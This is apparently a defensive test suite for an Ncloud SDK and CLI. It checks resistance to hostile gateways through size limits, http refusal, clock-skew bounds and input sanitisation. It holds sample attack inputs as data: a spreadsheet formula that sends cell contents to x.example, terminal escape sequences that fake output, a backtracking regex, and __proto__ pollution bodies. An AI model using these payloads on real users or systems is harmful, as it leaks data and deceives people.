/* eslint-disable no-control-regex -- these tests look for control characters in what the CLI prints */
import assert from "node:assert/strict";
import type { EmulatorData } from "../../emulator";
import {
    ConfigurationError,
    getMccUsers,
    getOrganizationAccounts,
    InvalidArgumentError,
    ListingTooLargeError,
    NcloudApiError,
    NcloudError,
    ResponseTooLargeError,
    ResponseValidationError,
} from "../../sdk";
import { runCli } from "../helpers/cli";
import { COMPANY, emulatorOptions, mccUsers, ORG_GROUP, organizationAccounts, testData, testEmulator } from "../helpers/emulator";
import { assertNoLeaks } from "../helpers/leakSweep";

const DAY = 24 * 60 * 60 * 1000;
const ESC = "\u001b";
const failure = (call: Promise<unknown>) =>
    call.then(
        () => assert.fail("the call succeeded"),
        (e: unknown) => e,
    );

describe("a hostile or broken gateway cannot crash, exhaust or deceive the client", function () {
    this.timeout(30_000);
    const seen: unknown[] = [];
    after("no secret in any error", () => assertNoLeaks("hostile gateway errors", [], seen));

    describe("an absurd page.total", () => {
        it("2^53 - 1 users is refused after the first page, naming the number, without building anything sized by it", async () => {
            const emulator = await testEmulator({ faults: [{ api: "mcc", kind: "total", total: Number.MAX_SAFE_INTEGER, every: 1 }] });
            const error = await failure(getMccUsers({ companyId: COMPANY, pageSize: 1 }, emulatorOptions(emulator, { share: false })));
            seen.push(error);
            assert.ok(error instanceof ListingTooLargeError, String(error));
            assert.equal(error.limit, "maxUsers");
            assert.equal(error.announced, Number.MAX_SAFE_INTEGER);
            assert.match(error.message, /announces 9007199254740991 users, more than maxUsers 10000000/);
            assert.equal(emulator.requests.length, 1);
        });

        it("maxUsers and maxPages can be raised or lowered; pages are counted from the page size the server sends", async () => {
            const emulator = await testEmulator({ faults: [{ api: "mcc", kind: "total", total: 100_000_000, every: 1 }] });
            const opts = emulatorOptions(emulator, { share: false, maxUsers: 200_000_000 });
            const error = await failure(getMccUsers({ companyId: COMPANY, pageSize: 1 }, opts));
            seen.push(error);
            assert.ok(error instanceof ListingTooLargeError && error.limit === "maxPages" && error.announced === 100_000_000 && error.max === 100_000);
            const small = await failure(getMccUsers({ companyId: COMPANY }, emulatorOptions(emulator, { share: false, maxUsers: 5 })));
            assert.ok(small instanceof ListingTooLargeError && small.limit === "maxUsers" && small.max === 5);
            await assert.rejects(getMccUsers({ companyId: COMPANY }, { ...opts, maxPages: 0 }), InvalidArgumentError);
        });
    });

    describe("response bodies have a size limit (maxBodyBytes, default 32 MiB)", () => {
        it("a body larger than the limit is a ResponseTooLargeError, not retried", async () => {
            const emulator = await testEmulator({ faults: [{ api: "organization", kind: "flood", bytes: 3 * 1024 * 1024, every: 1 }] });
            const error = await failure(getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { maxBodyBytes: 1024 * 1024 })));
            seen.push(error);
            assert.ok(error instanceof ResponseTooLargeError, String(error));
            assert.equal(error.maxBodyBytes, 1024 * 1024);
            assert.equal(emulator.requests.length, 1);
        });

        it("an endless chunked body ends at the limit, long before the attempt's timeout", async () => {
            const emulator = await testEmulator({ faults: [{ api: "mcc", kind: "flood", every: 1 }] });
            const started = Date.now();
            const error = await failure(getMccUsers({ companyId: COMPANY }, emulatorOptions(emulator, { maxBodyBytes: 2 * 1024 * 1024, timeoutMs: 20_000 })));
            seen.push(error);
            assert.ok(error instanceof ResponseTooLargeError, String(error));
            assert.ok(Date.now() - started < 10_000);
        });

        it("the limit holds for error bodies too", async () => {
            const emulator = await testEmulator({ faults: [{ api: "organization", kind: "raw", status: 503, body: "x".repeat(2 * 1024 * 1024), every: 1 }] });
            const error = await failure(getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { maxBodyBytes: 1024 * 1024 })));
            assert.ok(error instanceof ResponseTooLargeError && error.status === 503, String(error));
            assert.equal(emulator.requests.length, 1);
        });
    });

    describe("plain http", () => {
        // Never contacted: the endpoint is refused before any request.
        const REMOTE = "http://192.0.2.10:8080";

        it("to a host other than loopback is refused before any request, saying why", async () => {
            const error = await failure(
                getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, { accessKey: "a", secretKey: "b", organizationEndpoint: REMOTE }),
            );
            assert.ok(error instanceof ConfigurationError);
            assert.equal(error.setting, "options.organizationEndpoint");
            assert.match(error.message, /refusing plain http to 192\.0\.2\.10:8080: .*signed request headers.*local emulator or a test gateway/);
        });

        it("is accepted on loopback, and elsewhere when the user opts in (option, environment, CLI flag)", async () => {
            const emulator = await testEmulator();
            // An IPv4-mapped IPv6 address of loopback: not a name the loopback rule knows, yet it reaches the emulator.
            const mapped = emulator.url.replace("127.0.0.1", "[::ffff:127.0.0.1]");
            const refused = await failure(
                getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { organizationEndpoint: mapped })),
            );
            assert.ok(refused instanceof ConfigurationError);
            const allowed = await getOrganizationAccounts(
                { organizationGroupNo: ORG_GROUP },
                emulatorOptions(emulator, { organizationEndpoint: mapped, allowHttp: true }),
            );
            assert.equal(allowed.accounts.length, 3);
            const cliRefused = await runCli(["org-accounts", "--group", String(ORG_GROUP), "--endpoint", mapped]);
            assert.equal(cliRefused.code, 2);
            assert.match(cliRefused.stderr, /refusing plain http/);
            const cliAllowed = await runCli(["org-accounts", "--group", String(ORG_GROUP), "--endpoint", mapped, "--allow-http"]);
            assert.equal(cliAllowed.code, 0, cliAllowed.stderr);
            const envAllowed = await runCli(["org-accounts", "--group", String(ORG_GROUP), "--endpoint", mapped], { env: { NCLOUD_ALLOW_HTTP: "1" } });
            assert.equal(envAllowed.code, 0, envAllowed.stderr);
        });
    });

    describe("what members write cannot attack a spreadsheet or a terminal", () => {
        const hostile = [
            { externalKey: "f1", name: '=HYPERLINK("http://x.example/?"&A1,"click")' },
            { externalKey: "f2", name: "@SUM(1+1)" },
            { externalKey: "f3", name: "+A1" },
            { externalKey: "f4", name: "-2+3" },
            { externalKey: "f5", name: "\tTab" },
            { externalKey: "t1", name: `${ESC}]0;pwned\u0007${ESC}[2Jcleared\rall good` },
            { externalKey: "t2", name: "c1\u009b31mred" },
        ];
        const data = (): EmulatorData => testData({ mccCompanies: { [COMPANY]: hostile } });

        it("CSV: a cell a spreadsheet would run as a formula gets a leading apostrophe; --csv-raw writes it as it is", async () => {
            const emulator = await testEmulator({ data: data() });
            const safe = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--output", "csv"]);
            assert.equal(safe.code, 0, safe.stderr);
            const names = safe.stdout
                .split("\r\n")
                .slice(1, 6)
                .map((line) => line.split(",").slice(1).join(","));
            assert.deepEqual(
                names,
                [`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, "'@SUM(1+1)", "'+A1", "'-2+3", "'\tTab"].map((n) => n + ",".repeat(8)),
            );
            const raw = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--output", "csv", "--csv-raw"]);
            assert.match(raw.stdout, /\r\nf2,@SUM\(1\+1\),/);
        });

        it("tables show control characters as visible escapes", async () => {
            const emulator = await testEmulator({ data: data() });
            const table = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--output", "table"]);
            assert.equal(table.code, 0, table.stderr);
            assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(table.stdout), "no raw control character reaches the terminal");
            assert.match(table.stdout, /\\u001b\]0;pwned\\u0007\\u001b\[2Jcleared\\u000dall good/);
            assert.match(table.stdout, /c1\\u009b31mred/);
        });

        it("JSON escapes C1 controls too (JSON.stringify leaves them raw), and stays the same value", async () => {
            const emulator = await testEmulator({ data: data() });
            const json = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--output", "json"]);
            assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(json.stdout));
            assert.deepEqual(JSON.parse(json.stdout), hostile);
        });

        it("an error message quoting the server cannot print a fake 'all good' or clear the screen", async () => {
            const emulator = await testEmulator({
                faults: [{ api: "organization", kind: "status", status: 400, errorCode: "100", message: `\r${ESC}[2K${ESC}[32mall good${ESC}[0m\n` }],
            });
            const result = await runCli(["org-accounts", "--group", String(ORG_GROUP), "--endpoint", emulator.url]);
            assert.equal(result.code, 1);
            assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(result.stderr), JSON.stringify(result.stderr));
            assert.equal(result.stderr.split("\n").length, 2, "one line");
            assert.match(result.stderr, /\\u000d\\u001b\[2K\\u001b\[32mall good/);
        });
    });

    describe("a regular expression that would backtrack for minutes", () => {
        it("is refused before any request, in the library and on the command line", async () => {
            const emulator = await testEmulator();
            const error = await failure(
                getMccUsers({ companyId: COMPANY, filters: [{ name: "name", values: ["(a+)+$"], regex: true }] }, emulatorOptions(emulator)),
            );
            assert.ok(error instanceof InvalidArgumentError && error.argument === "filters[0].values[0]");
            assert.match(error.message, /nested quantifier/);
            const cli = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--filter", "name~=(a+)+$"]);
            assert.equal(cli.code, 2);
            assert.match(cli.stderr, /nested quantifier/);
            assert.equal(emulator.requests.length, 0);
        });
    });

    describe("clock corrections are bounded", () => {
        it("a 401 whose Date is 300 days ahead is not followed: no request signed for a future time, the 401 stands", async () => {
            const emulator = await testEmulator({ clockOffsetMs: 300 * DAY });
            const error = await failure(getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { share: false })));
            seen.push(error);
            assert.ok(error instanceof NcloudApiError && error.status === 401);
            assert.equal(emulator.requests.length, 1);
        });

        it("a gateway 50 minutes off is still corrected (the bound is an hour)", async () => {
            const emulator = await testEmulator({ clockOffsetMs: 50 * 60 * 1000 });
            const result = await getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { share: false }));
            assert.equal(result.accounts.length, 3);
            assert.deepEqual(
                emulator.requests.map((r) => r.status),
                [401, 200],
            );
        });
    });

    it("timer values past 2^31 - 1 ms are invalid arguments, not a 1 ms timeout", async () => {
        const emulator = await testEmulator();
        for (const option of ["timeoutMs", "deadlineMs"] as const) {
            const error = await failure(getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { [option]: 2 ** 31 })));
            assert.ok(error instanceof InvalidArgumentError && error.argument === option, String(error));
        }
        await assert.rejects(
            getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator, { retry: { maxDelayMs: 2 ** 31 } })),
            InvalidArgumentError,
        );
        assert.equal(emulator.requests.length, 0);
    });

    it("a page nested 200,000 levels deep is a ResponseValidationError, in the library and the CLI", async () => {
        const emulator = await testEmulator({ faults: [{ api: "mcc", kind: "nest", depth: 200_000, every: 1 }] });
        const error = await failure(getMccUsers({ companyId: COMPANY }, emulatorOptions(emulator)));
        seen.push(error);
        assert.ok(error instanceof ResponseValidationError && /nested more than 64 levels deep/.test(error.message), String(error));
        const cli = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url]);
        assert.equal(cli.code, 1);
        assert.match(cli.stderr, /^ncloud-members: unexpected response to GET .*nested more than 64 levels deep/);
    });

    it("a field named __proto__ anywhere in a body is a ResponseValidationError (zod skips it; it is kept nowhere)", async () => {
        const page = (user: string) => `{"page":{"count":1,"offset":0,"limit":100,"total":1},"users":[${user}]}`;
        const bodies = [
            { api: "mcc" as const, body: page(`{"externalKey":"u1","i18nNames":{"__proto__":5}}`) },
            { api: "mcc" as const, body: page(`{"externalKey":"u1","i18nNames":{"__proto__":"x"}}`) },
            { api: "organization" as const, body: JSON.stringify([organizationAccounts()[0]]).replace(/}]$/, ',"__proto__":{"polluted":"yes"}}]') },
        ];
        for (const { api, body } of bodies) {
            const emulator = await testEmulator({ faults: [{ api, kind: "body", body, contentType: "application/json", every: 1 }] });
            const read =
                api === "mcc"
                    ? getMccUsers({ companyId: COMPANY }, emulatorOptions(emulator))
                    : getOrganizationAccounts({ organizationGroupNo: ORG_GROUP }, emulatorOptions(emulator));
            const error = await failure(read);
            assert.ok(error instanceof ResponseValidationError && /holds a field named __proto__/.test(error.message), `${body}: ${String(error)}`);
        }
        assert.equal(({} as Record<string, unknown>).polluted, undefined);
    });

    it("waiting for a connection does not count against an attempt's timeout: 200 concurrent calls to a slow server all succeed", async () => {
        const companies = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`company-${i}`, mccUsers(3, `c${i}-`)]));
        const emulator = await testEmulator({ data: testData({ mccCompanies: companies }), latencyMs: 250 });
        const opts = emulatorOptions(emulator, { timeoutMs: 1_000, share: false });
        const results = await Promise.allSettled(Object.keys(companies).map((companyId) => getMccUsers({ companyId }, opts)));
        const failed = results.filter((r) => r.status === "rejected").map((r) => (r.reason as NcloudError).code);
        assert.deepEqual(failed, []);
        assert.equal(emulator.requests.length, 200, "no retries either");
    });
});
